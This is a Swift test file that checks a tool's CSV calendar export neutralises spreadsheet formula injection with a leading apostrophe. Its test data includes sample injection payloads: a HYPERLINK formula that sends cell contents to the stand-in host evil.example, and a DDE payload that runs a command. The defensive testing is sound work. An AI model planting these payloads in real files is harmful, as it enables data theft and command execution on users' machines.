import Foundation
import SMMCore
import SMMShellTestSupport
import Testing

@testable import SMMShell

/// Every CSV smm writes neutralises cells a spreadsheet would run as a formula (OWASP): a
/// leading `'` inside the quoted cell.
struct CSVInjectionTests {
  static let formulas = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
  ]

  /// `text`'s CSV rows split into cells (RFC 4180, as a spreadsheet reads them).
  func cells(_ text: String) -> [[String]] {
    var rows: [[String]] = []
    var row: [String] = []
    var cell = ""
    var quoted = false
    var iterator = Array(text).makeIterator()
    var pending: Character? = nil
    while let character = pending ?? iterator.next() {
      pending = nil
      if quoted {
        if character == "\"" {
          let next = iterator.next()
          if next == "\"" { cell.append("\"") } else { quoted = false; pending = next }
        } else {
          cell.append(character)
        }
        continue
      }
      switch character {
      case "\"": quoted = true
      case ",": row.append(cell); cell = ""
      case "\r\n", "\n":
        row.append(cell); cell = ""
        rows.append(row); row = []
      default: cell.append(character)
      }
    }
    return rows
  }

  @Test func theCalendarCSVNeutralisesFormulasInEveryUserField() throws {
    let shell = try TestShell()
    for line in ["/new Zed", "/stop", "/brand set hours 8", "/spaces choose instagram youtube"] {
      #expect(shell.execute(line).ok, "\(line)")
    }
    for formula in Self.formulas {
      let add = shell.execute("/content message add \(CommandText.quote(formula))")
      #expect(add.ok, "\(add)")
    }
    for id in 1...Self.formulas.count {
      #expect(shell.execute("/content adapt \(id)").ok)
    }
    #expect(shell.execute("/calendar plan 4 --start 2026-02-02").ok)
    let export = shell.execute("/export csv plan.csv")
    #expect(export.ok, "\(export)")
    let text = try String(contentsOfFile: shell.folder + "/plan.csv", encoding: .utf8)
    let rows = cells(text)
    #expect(rows.count > 1)
    var seen = Set<String>()
    for row in rows.dropFirst() {
      for cell in row {
        #expect(
          !(cell.first.map { "=+-@\t\r".contains($0) } ?? false),
          "a cell a spreadsheet would run: \(cell)")
        if cell.hasPrefix("'") { seen.insert(String(cell.dropFirst())) }
      }
    }
    for formula in Self.formulas {
      #expect(seen.contains { $0.hasPrefix(formula) }, "\(formula) is not in the CSV as text")
    }
    // Quoted as a whole, with the quotes inside doubled.
    #expect(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")"))
  }

  @Test func everyDangerousFirstCharacterIsNeutralised() {
    #expect(CalendarExport.csvField("=1+1") == "\"'=1+1\"")
    #expect(CalendarExport.csvField("\tx") == "\"'\tx\"")
    #expect(CalendarExport.csvField("\rx") == "\"'␍x\"")
    #expect(CalendarExport.csvField("@a,b") == "\"'@a,b\"")
    #expect(CalendarExport.csvField("plain") == "plain")
    #expect(CalendarExport.csvField("a=b") == "a=b")
  }
}
